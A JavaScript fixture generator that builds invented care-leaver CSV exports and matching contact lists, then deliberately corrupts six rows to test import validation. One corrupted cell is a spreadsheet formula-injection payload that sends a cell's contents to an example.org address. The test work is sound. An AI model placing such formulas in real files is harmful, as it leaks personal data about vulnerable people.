// Files as an LA's case management exports them: Ofsted's Annex A list 9 (care leavers), with the names some merge in,
// and the contacts extract keyed on the same id. Same seed and day, same files. Everyone in them is invented.

export const COLUMNS = ['ChildUniqueID', 'Gender', 'Ethnicity', 'DateOfBirth', 'Age', 'UASC', 'HasDisability', 'AllocatedTeam',
  'AllocatedWorker', 'AllocatedPersonalAdvisor', 'EligibilityCategory', 'LatestPathwayPlan', 'LAInTouch', 'LatestContact',
  'TypeOfAccommodation', 'SuitabilityOfAccommodation', 'ActivityStatus', 'FirstName', 'LastName'];
export const CONTACT_COLUMNS = ['ChildUniqueID', 'Phone', 'Email', 'Address', 'PreferredChannel'];

const ETHNICITY = 'WBRI WIRI WIRT WOTH WROM MWBC MWBA MWAS MOTH AIND APKN ABAN AOTH BCRB BAFR BOTH CHNE OOTH REFU NOBT'.split(' ')
  .map((code, i) => `${String.fromCharCode(97 + i)}) ${code}`);
const HOMES = [['U: Independent living', 8], ['D: Semi-independent, transitional accommodation', 4], ['B: With parents or relatives', 3],
  ['E: Supported lodgings', 2], ['K: Ordinary lodgings', 1], ['C: Community home or other form of residential care', 1],
  ['Z: With former foster carers', 2], ['T: Foyers and similar supported accommodation', 1], ['X: In custody', 1],
  ['S: No fixed abode / homeless', 1], ['W: Bed and breakfast', 1], ['R: Residence not known', 1]];
const UNSUITABLE = /^[XSWR]/;
const ACTIVITY = [['F2: Full time in education other than higher', 4], ['F1: Full time in higher education', 1], ['F5: Full time in training or employment', 4],
  ['P5: Part time in training or employment', 2], ['F4: Full time in an apprenticeship', 1], ['G4: Not in education, training or employment, illness or disability', 2],
  ['G5: Not in education, training or employment, other', 4], ['G6: Not in education, training or employment, pregnancy or parenting', 1]];
const FIRST = 'Alderic Brindle Calluna Dovely Emberly Fennick Gorsely Hazelin Ivorine Jasperin Kestrelle Larkin Mossley Nettlyn Orlean Pebblan Quillon Rushka Sorrelle Tansyn Umbrin Vetchley Wrenna Yarrowin Zephyrine'.split(' ');
const LAST = 'Examplewood Fablewick Inventley Madeupson Nobodyson Notareal Placeholt Pretendham Samplesworth Standinby Storybrook Testerton'.split(' ');
const WORKERS = ['Pat Advisely', 'Robin Helpworth', 'Sam Guidely', 'Lee Standbyme', 'Jo Keepintouch', 'Chris Doorway', 'Alex Cuppatea', 'Kit Ringback',
  'Max Turnup', 'Ash Listenmore', 'Dee Followup', 'Val Bythephone'];

/**
 * { list9, contacts, people, dirty, clean }: two CSV texts, one object per data row of list9, and the six rows that are wrong
 * on purpose as { row, kind, id }, where row is the line of the file (the heading is row 1).
 * rows: data rows; dirty: false for none; names: false leaves the two name columns off; today: a Date, for the ages.
 */
export function careLeavers({ rows = 300, seed = 9, dirty = true, names = true, prefix = 'TST', today = new Date() } = {}) {
  const random = generator(seed);
  const day = Date.UTC(today.getUTCFullYear(), today.getUTCMonth(), today.getUTCDate());
  const people = Array.from({ length: rows }, (_, i) => someone(i, prefix, random, day));
  const contacts = [CONTACT_COLUMNS, ...people.map((one, i) => contact(one, i, random))];
  const columns = names ? COLUMNS : COLUMNS.filter((name) => !/Name$/.test(name));
  const table = people.map((one) => columns.map((name) => one[name]));
  const spoilt = dirty ? spoil(table, columns, names) : [];
  const bad = new Set(spoilt.map((one) => one.row));
  return {
    list9: text([columns, ...table]),
    contacts: text(contacts),
    people,
    dirty: spoilt,
    clean: people.filter((_, i) => !bad.has(i + 2)),
  };
}

function someone(i, prefix, random, day) {
  const age = weighted(random, [[16, 1], [17, 2], [18, 4], [19, 4], [20, 4], [21, 3], [22, 2], [23, 2], [24, 1]]);
  const born = yearsBefore(day, age) - Math.floor(random() * 360) * 86_400_000;
  const back = (days) => date(day - Math.floor(random() * days) * 86_400_000);
  const home = weighted(random, HOMES);
  const alone = random() < 0.2;
  return {
    ChildUniqueID: `${prefix}${String(100_000 + i * 7)}`,
    Gender: weighted(random, [['a) Male', 56], ['b) Female', 42], ['c) Not stated', 1], ['d) Neither', 1]]),
    Ethnicity: random() < 0.55 ? ETHNICITY[0] : pick(random, ETHNICITY),
    DateOfBirth: date(born),
    Age: String(age),
    UASC: alone ? 'a) Yes' : 'b) No',
    HasDisability: random() < 0.15 ? 'a) Yes' : 'b) No',
    AllocatedTeam: pick(random, ['Leaving Care North', 'Leaving Care South', 'Leaving Care Asylum']),
    AllocatedWorker: age < 18 ? pick(random, WORKERS) : '',
    AllocatedPersonalAdvisor: pick(random, WORKERS),
    EligibilityCategory: age < 18 ? weighted(random, [['d) Eligible child', 2], ['a) Relevant child', 1]])
      : weighted(random, [['b) Former relevant child', 6], ['c) Qualifying care leaver', 1]]),
    LatestPathwayPlan: back(300),
    LAInTouch: weighted(random, [['a) Yes', 90], ['b) No', 5], ['d) Refu', 2], ['e) NREQ', 1], ['f) Rhom', 1], ['c) Died', 1]]),
    LatestContact: back(120),
    TypeOfAccommodation: home,
    SuitabilityOfAccommodation: UNSUITABLE.test(home) ? 'b) Unsuitable' : 'a) Suitable',
    ActivityStatus: weighted(random, ACTIVITY),
    FirstName: FIRST[i % FIRST.length],
    LastName: LAST[Math.floor(i / FIRST.length) % LAST.length],
  };
}

function contact(one, i, random) {
  // 07700 900000 to 900999 is kept by Ofcom for drama: it rings nowhere. example.org is kept for documents.
  const phone = random() < 0.92 ? `07700 900${String(i % 1000).padStart(3, '0')}` : '';
  const email = random() < 0.7 ? `${one.FirstName}.${one.LastName}.${i}@example.org`.toLowerCase() : '';
  const address = random() < 0.9 ? `${1 + (i % 80)} Invented Street, Exampleton, ZZ99 ${1 + (i % 9)}ZZ` : '';
  const channel = phone ? weighted(random, [['text', 5], ['email', email ? 2 : 0], ['letter', address ? 1 : 0]]) : email ? 'email' : address ? 'letter' : '';
  return [one.ChildUniqueID, phone, email, address, channel];
}

function spoil(table, columns, names) {
  const put = (i, name, value) => { table[i][columns.indexOf(name)] = value; };
  const at = (share) => Math.floor(table.length * share);
  const wrong = [];
  const note = (i, kind) => wrong.push({ row: i + 2, kind, id: table[i][0] });
  put(at(0.1), 'DateOfBirth', '31/02/2005');
  note(at(0.1), 'bad date');
  put(at(0.25), 'EligibilityCategory', 'q) Something else');
  note(at(0.25), 'unknown code');
  put(at(0.4), 'ChildUniqueID', table[at(0.02)][0]);
  note(at(0.4), 'second use of an id');
  // One name would do: some people have only one.
  for (const column of names ? ['FirstName', 'LastName'] : ['ChildUniqueID']) put(at(0.55), column, '');
  note(at(0.55), names ? 'missing name' : 'missing id');
  put(at(0.7), names ? 'LastName' : 'AllocatedTeam', '=HYPERLINK("http://example.org/?leak="&A2,"Click me")');
  note(at(0.7), 'formula cell');
  table[at(0.85)].push('one cell too many');
  note(at(0.85), 'wrong column count');
  return wrong;
}

/** CSV as RFC 4180 has it, with CRLF; nothing is made safe here, these files play the outside world. */
export function text(table) {
  const cell = (value) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
  return `${table.map((row) => row.map(cell).join(',')).join('\r\n')}\r\n`;
}

const date = (time) => { const d = new Date(time); return [d.getUTCDate(), d.getUTCMonth() + 1, d.getUTCFullYear()].map((n) => String(n).padStart(2, '0')).join('/'); };
const yearsBefore = (day, years) => { const d = new Date(day); d.setUTCFullYear(d.getUTCFullYear() - years); return d.getTime(); };
const pick = (random, list) => list[Math.floor(random() * list.length)];

function weighted(random, list) {
  let left = random() * list.reduce((total, [, weight]) => total + weight, 0);
  for (const [value, weight] of list) { left -= weight; if (left < 0) return value; }
  return list[0][0];
}

// mulberry32: small, fast, the same everywhere.
function generator(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t = (t + Math.imul(t ^ (t >>> 7), t | 61)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}
